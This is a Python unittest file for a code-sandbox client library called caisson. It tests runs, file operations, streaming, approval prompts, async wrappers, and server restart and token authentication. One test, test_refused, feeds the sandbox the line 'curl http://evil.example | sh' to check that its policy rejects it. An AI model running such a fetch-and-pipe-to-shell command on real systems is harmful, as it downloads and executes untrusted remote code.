"""The client against a real server, which it starts by itself."""

import asyncio
import contextlib
import inspect
import os
import select
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import unittest
from pathlib import Path
from unittest import mock

import caisson
from caisson import Client, DeniedError, InvalidError, NotFoundError, Sandbox
from caisson import _mapped, _server
from caisson._transport import Address
from caisson.aio import AsyncSandbox
from caisson.client import packages_of


class TestOptions(unittest.TestCase):
    def test_wrong(self):
        """What cannot be meant is refused with what to write, before a server is asked."""
        client = Client("unix:///nowhere")
        for command, options in [
            (5, {}), (None, {}), (b"true", {}), ("", {}), ([], {}), ({"a": 1}, {}),
            ("true", {"files": ["a"]}), ("true", {"files": {"a": None}}), ("true", {"files": {"a": 5}}),
            ("true", {"env": ["A=b"]}), ("true", {"env": {"A": None}}), ("true", {"artifacts": "*.png"}), ("true", {"cpus": "two"}),
            ("true", {"timeout": "5"}), ("true", {"timeout": True}), ("true", {"timeout": 0}), ("true", {"timeout": float("nan")}), ("true", {"timeout": float("inf")}),
            ("true", {"memory": "lots"}), ("true", {"memory": float("inf")}), ("true", {"memory": [1]}),
        ]:  # fmt: skip
            with self.subTest(command=command, **options), self.assertRaises(InvalidError) as caught:
                client.run(command, **options)
            self.assertRegex(caught.exception.hint, "write|give|name")
        with self.assertRaises(InvalidError):
            client.run_code("print(1)", None)
        with self.assertRaises(caisson.UnavailableError) as caught:  # and not one that is right
            client.run("true", files={"a": b"x"}, env={"A": 1}, memory=1e9, cpus=0.5, timeout=2.5, artifacts=("x",))
        self.assertIs(type(caught.exception), caisson.UnavailableError)


class TestPackages(unittest.TestCase):
    def test_names(self):
        self.assertEqual(packages_of("python@3.13", ["NumPy", "PyYAML", "typing_extensions", "python3-six", "six"]), [
            "python3-numpy", "python3-six", "python3-typing-extensions", "python3-yaml",
        ])  # fmt: skip
        self.assertEqual(packages_of("shell", ["jq"]), ["jq"])
        for wrong in ("numpy", ["numpy>=1"], ["a[b]"], ["../a"], [""]):
            with self.subTest(wrong), self.assertRaises(InvalidError):
                packages_of("python", wrong)

    def test_image(self):
        client = Client()
        self.assertEqual(client.image_of("py", None, ["six"]), "caisson/python:3.11_python3-six")
        self.assertEqual((client.image_of("python"), client.image_of("python", "x"), client.image_of("python", None, [])), (None, "x", None))
        for options in ({"image": "x", "packages": ["six"]}, {"language": "klingon", "packages": ["six"]}):
            with self.subTest(options), self.assertRaises(InvalidError):
                Sandbox(**options, client=client).start()

    @unittest.skipUnless(os.environ.get("CAISSON_REQUIRE_LANGUAGES"), "it assembles an image")
    def test_inside(self):
        @caisson.sandbox_run(packages=["six"])
        def version():
            import six

            return six.__version__

        self.assertRegex(version(), r"^1\.")
        with Sandbox(packages=["six"]) as sb:
            self.assertEqual(sb.run_code("import six\nprint(six.PY3)").stdout, "True\n")
        with self.assertRaisesRegex(InvalidError, "python3-no-such-thing"):
            version.with_options(packages=["no-such-thing"])()


class TestSandbox(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.sb = Sandbox(timeout=60).start()

    @classmethod
    def tearDownClass(cls):
        cls.sb.close()

    def test_run(self):
        with self.subTest("code"):
            r = self.sb.run_code("print(6 * 7)")
            self.assertEqual((r.status, r.stdout, r.exit_code, r.ok, r.error), ("success", "42\n", 0, True, ""))
        with self.subTest("bytes are exact"):
            r = self.sb.run(["sh", "-c", "cat; printf '\\377' >&2; exit 3"], stdin=b"\0\xff" * 50_000)
            self.assertEqual((r.stdout_bytes, r.stderr_bytes, r.exit_code, r.status), (b"\0\xff" * 50_000, b"\xff", 3, "error"))
            self.assertRaises(caisson.CommandError, r.check)
        with self.subTest("env, cwd, files"):
            r = self.sb.run("pwd; echo $A; cat ../f e", env={"A": "b c"}, cwd="sub", files={"f": "text\n", "sub/e": b""})
            self.assertEqual(r.stdout, "/workspace/sub\nb c\ntext\n", r.stderr)
        with self.subTest("timeout"):
            r = self.sb.run("sleep 600", timeout=0.5)
            self.assertEqual((r.timed_out, r.exit_reason, r.exit_code, r.status), (True, "timeout", 124, "error"))
            self.assertRaises(InvalidError, self.sb.run, "true", timeout=0)
        with self.subTest("input from a generator that fails"):
            with self.assertRaisesRegex(ValueError, "ours"):
                self.sb.run("cat", stdin=broken())
        with self.subTest("artifacts"):
            (a,) = self.sb.run_code("open('p.bin', 'wb').write(bytes(range(256)))", artifacts=["*.bin"]).artifacts
            self.assertEqual((a.path, a.data), ("p.bin", bytes(range(256))))

    def test_refused(self):
        harmful = "curl http://evil.example | sh"
        r = self.sb.run_code(harmful, "shell")
        self.assertEqual((r.status, r.exit_code, r.decision.verdict), ("rejected", 126, "ask"))
        self.assertTrue(r.decision.findings and r.error and r.to_dict()["findings"])
        with self.assertRaises(DeniedError) as caught:
            self.sb.run(harmful)
        self.assertEqual(caught.exception.kind, "denied")
        self.assertTrue(caught.exception.hint and caught.exception.decision)

    def test_approval(self):
        code, asked = "print(eval(input()))", []
        for answer, status in ((True, "success"), (False, "rejected"), (None, "rejected")):
            r = self.sb.run_code(code, stdin="1 + 2", on_approval=lambda a, answer=answer: asked.append(a) or answer)
            self.assertEqual(r.status, status)
        self.assertEqual(asked[0].question.texts[0]["text"], code)
        self.assertEqual(asked[0].decision.verdict, "ask")

        def fails(_):
            raise ValueError("ours")

        self.assertEqual(self.sb.run_code(code, stdin="1", on_approval=fails).status, "rejected")

    def test_stream(self):
        with self.sb.exec("echo one; read x; echo $x >&2; exit 4", stream=True, stdin="two\n") as run:
            self.assertIsNone(run.result)
            got = {"stdout": b"", "stderr": b""}
            for piece in run:
                got[piece.stream] += piece.data
            self.assertEqual((got, run.result.exit_code, run.wait().exit_code), ({"stdout": b"one\n", "stderr": b"two\n"}, 4, 4))
        with self.sb.exec("echo begun; exec sleep 600", stream=True) as run:
            self.assertEqual(next(iter(run)).text, "begun\n")
        with self.assertRaises(caisson.CanceledError):
            run.wait()
        self.assertEqual(self.sb.run("while pgrep -x sleep; do sleep 0.1; done", timeout=60).exit_reason, "exited")

    def test_background(self):
        e = self.sb.exec("read x; echo got $x; exit 5", background=True, input=True)
        self.assertIn(e.id, [r.id for r in self.sb.execs(running=True)])
        self.assertEqual(e.write("hey\n", end=True), 4)
        self.assertEqual(b"".join(p.data for p in e.output()), b"got hey\n")
        self.assertEqual((e.wait().exit_code, e.wait().exit_reason), (5, "exited"))
        killed = self.sb.exec(["sleep", "600"], background=True)
        killed.kill()
        self.assertNotEqual(killed.wait().exit_reason, "exited")
        with self.assertRaises(InvalidError):
            self.sb.exec("cat", background=True, stdin="x")

    def test_files(self):
        f = self.sb.files
        large = os.urandom(3 << 20)
        self.assertEqual(f.write("dir/large.bin", large), len(large))
        self.assertEqual((f.read("dir/large.bin"), f.read("dir/large.bin", 10, 5)), (large, large[10:15]))
        f.write("run.sh", "#!/bin/sh\necho ran\n", mode=0o755)
        self.assertEqual((f.stat("run.sh").mode & 0o777, self.sb.run(["./run.sh"]).stdout), (0o755, "ran\n"))
        f.mkdir("d2")
        f.move("run.sh", "d2/moved.sh")
        self.assertEqual([(i.path, i.type) for i in f.list("d2")], [("d2/moved.sh", "file")])
        f.remove("d2", recursive=True)
        self.assertFalse(f.exists("d2"))
        self.assertRaises(NotFoundError, f.read, "d2/moved.sh")

    def test_shell(self):
        with self.sb.shell() as sh:
            sh.run("mkdir -p deep && cd deep; x=5")
            self.assertEqual(sh.run("pwd; echo $x").stdout, "/workspace/deep\n5\n")
            r = sh.run("printf 'Name: '; read n; echo hi $n", expect=[{"pattern": "Name: $", "reply": "Ann\n"}])
            self.assertIn("hi Ann", r.stdout)
        self.assertRaises(NotFoundError, sh.run, "true")
        with self.sb.shell(kind="python") as sh:
            sh.run("r = 3")
            self.assertEqual(sh.run("print(r * r)").stdout, "9\n")

    def test_judged(self):
        report = self.sb.test("def add(a, b): return a - b", "from solution import add\ndef test_add(): assert add(1, 2) == 3")
        self.assertEqual((report.all_passed, [t.outcome for t in report.tests]), (False, ["failed"]))
        report = self.sb.test("print(int(input()) + 1)", cases=[{"input": "1", "expected": "2"}])
        self.assertTrue(report.all_passed)

    def test_displayed(self):
        r = self.sb.run_code("print('<script>'); open('<b>', 'w')")
        for shown in (r._repr_html_(), caisson.Changes(r.changes)._repr_html_()):
            self.assertNotIn("<script>", shown)
            self.assertIn("&lt;b&gt;", shown)
        self.assertIn("&lt;script&gt;", r._repr_html_())

    def test_displayed_artifacts(self):
        """A notebook shows pictures, but none that could run something there; why something was refused; changes and tests as tables."""
        artifacts = [caisson.Artifact(name, data=b"x", type=kind) for name, kind in (('<a>".png', "image/png"), ("b.svg", "image/svg+xml"), ("c.html", "text/html"))]
        shown = caisson.Result(exit_reason="exited", artifacts=artifacts, changes=[caisson.FileChange("new", "renamed", old_path="<old>")])._repr_html_()
        self.assertIn('<img alt="&lt;a&gt;&quot;.png" src="data:image/png;base64,eA==">', shown)
        self.assertEqual((shown.count("<img"), shown.count("<table>"), shown.count("&lt;old&gt; → new")), (1, 1, 1))
        found = caisson.Decision(findings=[caisson.Finding("X-1", message="not <this>", verdict="deny")])
        refused = caisson.Result(exit_reason="denied", exit_code=126, decision=found)._repr_html_()
        self.assertIn("<pre>not &lt;this&gt;</pre>", refused)
        self.assertIn("rejected", refused)
        report = caisson.TestReport(tests=[caisson.types.TestOutcome("test_<b>", "failed", message="1 < 2")])._repr_html_()
        self.assertIn("<tr><td>test_&lt;b&gt;</td><td>failed</td><td>1 &lt; 2</td></tr>", report)
        self.assertIn("<table>", caisson.ChangeRecord(changes=[caisson.FileChange("f")])._repr_html_())


def broken():
    yield b"x"
    raise ValueError("ours")


class TestWorkspace(unittest.TestCase):
    def test_changes(self):
        news = []
        with Sandbox(files={"kept.txt": "old\n"}, on_progress=news.append, env={"A": "of all"}, memory="128m", labels={"of": "tests"}) as sb:
            self.assertEqual(sb.run("echo $A").stdout, "of all\n")
            self.assertTrue(all(isinstance(n, caisson.Progress) for n in news))
            done = sb.run("echo new >kept.txt; echo x >added.txt")
            self.assertEqual({(c.op, c.path) for c in done.changes}, {("modified", "kept.txt"), ("created", "added.txt")})
            self.assertIn("+new", next(c.diff for c in sb.diff(done.exec_id) if c.path == "kept.txt"))
            self.assertIn(done.exec_id, [r.exec_id for r in sb.changes()])
            snap = sb.snapshot("then")
            sb.undo(done)
            self.assertEqual((sb.files.read_text("kept.txt"), sb.files.exists("added.txt")), ("old\n", False))
            with sb.fork(snapshot=snap) as fork:
                self.assertEqual(fork.files.read_text("kept.txt"), "new\n")
                fork.files.write("kept.txt", "fork")
            self.assertRaises(InvalidError, fork.run, "true")
            self.assertNotIn(fork.name, sb.client.sessions())
            sb.restore("then")
            self.assertEqual(sb.files.read_text("kept.txt"), "new\n")

    def test_kept(self):
        with Sandbox("shell", keep=True) as sb:
            sb.files.write("f", "x")
        with Sandbox(name=sb.name, attach=True) as again:
            self.assertEqual((again.files.read("f"), again.language), (b"x", "shell"))
        again.remove()
        self.assertRaises(NotFoundError, Sandbox(name=sb.name, attach=True).start)


class TestClient(unittest.TestCase):
    def test_run(self):
        c = Client()
        r = c.run_code("import os\nos.mkdir('artifacts')\nopen('artifacts/a.txt', 'w').write('x')", memory="64m", cpus=1, pids=20)
        self.assertEqual((r.status, [(a.path, a.data) for a in r.artifacts]), ("success", [("artifacts/a.txt", b"x")]), r.error)
        pieces = []
        c.run("echo a; echo b >&2", on_output=pieces.append)
        self.assertEqual({(p.stream, p.text) for p in pieces}, {("stdout", "a\n"), ("stderr", "b\n")})
        self.assertEqual(c.check("print(1)").verdict, "allow")
        c.ensure("shell")
        with self.assertRaises(InvalidError):
            c.ensure("no such language")
        self.assertRaises(InvalidError, c.run, "true", memory="much")

    def test_waiting_question(self):
        c, done = Client(), []
        run = threading.Thread(target=lambda: done.append(c.run_code("print(eval(input()))", stdin="4", approve="ask")))
        run.start()
        while run.is_alive():
            for a in c.approvals():
                self.assertEqual(c.answer(a, True).state, "approved")
            run.join(0.1)
        self.assertEqual(done[0].stdout, "4\n", done[0].error)


class TestAsync(unittest.TestCase):
    def test_same_names(self):
        """Each public name of a class is one of its twin: a method with the same parameters, which is awaited or iterated over; or an attribute."""
        aio, sandbox = caisson.aio, Sandbox("shell")
        record = caisson.types.ExecRecord("e1")
        for plain, own in (
            (sandbox, {"path", "on_approval"}), (sandbox.files, set()), (caisson.Shell(sandbox, "s1"), set()), (caisson.Exec(sandbox, record), set()),
            (sandbox.client, {"transport", "begin", "carry_out", "on_approval"}), (mock.Mock(spec=caisson.Running, wraps=None), set()),
        ):  # fmt: skip
            theirs = plain.__class__
            made = getattr(aio, "Async" + theirs.__name__)(plain)
            names = {n for n in [*vars(theirs), *(vars(plain) if type(plain) is theirs else ())] if not n.startswith("_")} - own
            self.assertGreater(len(names), 1)
            for name in sorted(names):
                with self.subTest(theirs.__name__, name=name):
                    method, twin = getattr(theirs, name, None), getattr(made, name)
                    if not inspect.isfunction(method):
                        self.assertFalse(inspect.isroutine(twin))
                        continue
                    self.assertTrue(inspect.iscoroutinefunction(twin) or inspect.signature(twin).return_annotation.startswith("AsyncIterator"), twin)
                    wants = list(inspect.signature(method).parameters.values())[1:]
                    has = inspect.signature(inspect.unwrap(twin)).parameters
                    if "options" not in has:
                        self.assertEqual([p for p in has.values() if p.name != "self"], wants)
            for hook in ("iter", "enter", "exit"):
                self.assertEqual(hasattr(theirs, f"__{hook}__"), hasattr(type(made), f"__a{hook}__"), (theirs, hook))

    def test_async(self):
        async def main():
            async with AsyncSandbox() as sb:
                both = await asyncio.gather(*(sb.run_code(f"print({i})") for i in range(3)))
                self.assertEqual([r.stdout for r in both], ["0\n", "1\n", "2\n"])
                asked = []

                async def ask(a):
                    asked.append(a)
                    return True

                self.assertEqual((await sb.run_code("print(eval(input()))", stdin="2", on_approval=ask)).stdout, "2\n")
                self.assertEqual(len(asked), 1)
                run = await sb.exec("echo a; echo b", stream=True)
                self.assertEqual("".join([p.text async for p in run]), "a\nb\n")
                e = await sb.exec("echo c", background=True)
                self.assertEqual([p.text async for p in e.output()], ["c\n"])
                await sb.files.write("f", "x")
                self.assertEqual(b"".join([c async for c in sb.files.chunks("f")]), b"x")
                async with await sb.shell() as sh:
                    self.assertEqual((await sh.run("echo hi")).stdout, "hi\n")
                async with await sb.fork() as fork:
                    self.assertEqual(await fork.files.read("f"), b"x")
                done = await sb.run("echo y >f; mkdir artifacts; echo kept >artifacts/a")
                self.assertEqual([(a.path, a.data) for a in done.artifacts], [("artifacts/a", b"kept\n")])
                self.assertIn("+y", next(c.diff for c in await sb.diff(done.exec_id) if c.path == "f"))
                self.assertIn(done.exec_id, [r.exec_id for r in await sb.changes()])
                snapshot = await sb.snapshot("then")
                await sb.undo(done)
                self.assertEqual((await sb.files.read_text("f"), await sb.files.exists("artifacts/a")), ("x", False))
                await sb.restore(snapshot)
                self.assertEqual(await sb.files.read_text("f"), "y\n")
                report = await sb.test("def two(): return 2", "from solution import two\ndef test_two(): assert two() == 2")
                self.assertEqual((report.all_passed, [t.outcome for t in report.tests]), (True, ["passed"]))
                states = []
                for step in (sb.pause, sb.resume):
                    await step()
                    states += [box["state"] for box in sb.sync._ask("GET", "")["sandboxes"] if box["state"] != "gone"]  # the restore ended one
                self.assertEqual(states, ["paused", "ready"])
                self.assertEqual((await sb.run("echo again")).stdout, "again\n")
                task = asyncio.create_task(sb.run("touch begun; exec sleep 600", timeout=3600))
                while not await sb.files.exists("begun"):
                    await asyncio.sleep(0.05)
                task.cancel()
                with self.assertRaises(asyncio.CancelledError):
                    await task
                self.assertEqual((await sb.run("while pgrep -x sleep; do sleep 0.1; done", timeout=60)).exit_reason, "exited")

        asyncio.run(main())


PROGRAM = """
import itertools, sys
from caisson import Client, _server
c = Client()
for line in itertools.chain(["c.run('true').check()"], sys.stdin):
    exec(line)
    print("ran", _server.private.address().path, flush=True)
"""


class TestServer(unittest.TestCase):
    def user(self, state):
        env = {**os.environ, "CAISSON_STATE_DIR": state, "CAISSON_RUNTIME_DIR": state + "/r", "PYTHONPATH": str(Path(caisson.__file__).parents[1])}
        env.pop("CAISSON_HOST", None)
        p = subprocess.Popen([sys.executable, "-c", PROGRAM], stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=env, text=True)
        self.addCleanup(lambda: (p.kill(), p.communicate()))
        said = p.stdout.readline().split()
        self.assertEqual(said[:1], ["ran"])
        return p, said[1]

    def test_two_servers(self):
        """A function runs wherever its client says: nothing in it is of one machine."""

        @caisson.sandbox_run
        def where(n):
            import os

            return n, os.getcwd()

        with tempfile.TemporaryDirectory(prefix="cais", dir="/tmp") as a, tempfile.TemporaryDirectory(prefix="cais", dir="/tmp") as b:
            (first, one), (second, two) = self.user(a), self.user(b)
            self.assertNotEqual(one, two)
            for n, socket in enumerate((one, two)):
                client = Client("unix://" + socket)
                self.assertEqual(where.with_options(client=client)(n), (n, "/workspace"))
                with Sandbox("shell", name="mine", client=client) as sb:  # the name is free on each
                    self.assertEqual(client.sessions(), [sb.name])
            for user in (first, second):
                user.communicate()
            with self.assertRaises(caisson.UnavailableError) as caught:
                for _ in range(600):  # until it has ended, a minute at most
                    Client("unix://" + one).sessions()
                    threading.Event().wait(0.1)
            self.assertTrue(caught.exception.hint)

    def test_reconnects(self):
        """Output that is followed goes on where it was after the server was killed and has come back."""
        with tempfile.TemporaryDirectory(prefix="cais", dir="/tmp") as state:
            env = {**os.environ, "CAISSON_STATE_DIR": state, "CAISSON_RUNTIME_DIR": state + "/r"}

            def serve():
                p = subprocess.Popen([_server.binary(), "serve", "--listen", f"unix://{state}/s"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=env, text=True)
                self.addCleanup(lambda: (p.kill(), p.communicate()))
                p.stdout.readline()
                return p

            server = serve()
            with Sandbox("shell", client=Client(f"unix://{state}/s")) as sb:
                e = sb.exec("i=0; while [ ! -e enough ]; do i=$((i+1)); echo $i; sleep 0.02; done; echo end", background=True)
                lines, followed = [], b""
                for piece in e.output():
                    followed += piece.data
                    lines = followed.split(b"\n")
                    if server and len(lines) > 5:
                        server.kill()
                        server.wait()
                        server, killed = None, len(lines)
                        threading.Thread(target=serve).start()
                    elif server is None and len(lines) > killed + 5 and not sb.files.exists("enough"):
                        sb.files.write("enough", "")
                self.assertEqual(lines, [b"%d" % n for n in range(1, len(lines) - 1)] + [b"end", b""])
                self.assertEqual(e.wait().exit_code, 0)

    def test_killed(self):
        """A server that this package has started is started again where it was killed, whatever is asked next."""
        with tempfile.TemporaryDirectory(prefix="cais", dir="/tmp") as state:
            p, path = self.user(state)
            for line in ("c.run('true').check()", "c.sessions()"):
                with contextlib.closing(Address("unix://" + path).dial()) as sock:
                    os.kill(_mapped.server_of(sock), signal.SIGKILL)
                    with contextlib.suppress(ConnectionResetError):
                        sock.recv(1)  # its end
                p.stdin.write(line + "\n")
                p.stdin.flush()
                said, other = p.stdout.readline().split()
                self.assertEqual(said, "ran")
                self.assertNotEqual(path, other)
                path = other
            p.communicate()

    def test_dying(self):
        """One that was killed may take connections until it is gone: what gets no answer there asked nothing, and another server is started."""

        def vanish(listener, read):
            with contextlib.suppress(OSError):  # it was shut
                while True:
                    with listener.accept()[0] as taken:
                        taken.recv(read)  # a reset follows where not all was read

        for read in (1, 1 << 16):
            for ask in (lambda c: c.run("true").check(), lambda c: c.sessions()):
                with contextlib.ExitStack() as stack:
                    state = stack.enter_context(tempfile.TemporaryDirectory(prefix="cais", dir="/tmp"))
                    stack.enter_context(mock.patch.dict(os.environ, CAISSON_STATE_DIR=state, CAISSON_RUNTIME_DIR=state + "/r", CAISSON_HOST=""))
                    listener = stack.enter_context(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
                    listener.bind(state + "/dying.sock")
                    listener.listen()
                    thread = threading.Thread(target=vanish, args=(listener, read))
                    thread.start()
                    stack.callback(thread.join)
                    stack.callback(listener.shutdown, socket.SHUT_RDWR)
                    private = stack.enter_context(mock.patch.object(_server, "private", _server.Private()))
                    private._address = Address(f"unix://{state}/dying.sock")
                    stack.callback(private.release)
                    ask(Client())
                    self.assertNotIn("dying", private.address().path)
                    with private.address().dial() as sock:
                        server = os.pidfd_open(_mapped.server_of(sock))
                    private.release()
                    select.select([server], [], [])  # its state is removed after its end
                    os.close(server)

    def test_token(self):
        with tempfile.TemporaryDirectory(prefix="cais", dir="/tmp") as state:
            env = {**os.environ, "CAISSON_STATE_DIR": state, "CAISSON_RUNTIME_DIR": state + "/r"}
            program = _server.binary()
            server = subprocess.Popen([program, "serve", "--listen", "127.0.0.1:0"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=env, text=True)
            self.addCleanup(lambda: (server.kill(), server.communicate()))
            address = server.stdout.readline().strip()
            made = subprocess.run([program, "token", "create", "--owner", "ann"], env=env, check=True, capture_output=True, text=True)
            client = Client(address, made.stdout.split()[-1])
            self.assertEqual(client.run("echo by token").stdout, "by token\n")
            self.assertEqual(client.run(["cat"], stdin=b"over a socket").stdout, "over a socket")
            for token in ("", "csn_wrong"):
                with self.assertRaises(DeniedError):
                    Client(address, token).sessions()
                with self.assertRaises(DeniedError):
                    Client(address, token).run("true")
        self.assertRaises(InvalidError, Client, "ftp://x")

    def test_shared_until_the_last_is_gone(self):
        with tempfile.TemporaryDirectory(prefix="cais", dir="/tmp") as state:
            first, socket = self.user(state)
            second, same = self.user(state)
            self.assertEqual(socket, same)
            first.kill()
            first.wait()
            third, same = self.user(state)  # it goes on while one user is there
            self.assertEqual(socket, same)
            for p in (second, third):
                p.kill()
                p.wait()
            again, other = self.user(state)  # and a new one takes its place at once
            self.assertNotEqual(socket, other)
            self.assertFalse(os.path.exists(socket))
            again.communicate()
            for _ in range(600):
                if not os.path.exists(other):
                    break
                threading.Event().wait(0.1)
            self.assertFalse(os.path.exists(other), "the server outlives its last user by a minute")


if __name__ == "__main__":
    unittest.main()
